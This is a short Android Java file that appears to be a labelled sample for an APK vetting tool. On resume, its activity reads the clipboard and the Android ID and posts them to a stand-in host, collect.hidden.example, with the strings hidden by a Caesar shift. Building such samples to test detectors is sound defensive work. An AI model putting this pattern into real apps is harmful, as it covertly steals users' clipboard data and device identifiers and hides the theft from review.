package org.apkvet.samples.hidden.caesar;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d("jspwivhyk", 7));
            Object clip = Class.forName(D.d("hukyvpk\065jvu\173lu\173\065JspwivhykThuhnly", 7)).getMethod(D.d("nl\173Wypthy\200Jspw", 7)).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d("hukyvpkfpk", 7));
            URLConnection connection = new URL(D.d("o\173\173wzA\066\066jvsslj\173\065opkklu\065l\177htwsl\066jspw", 7)).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
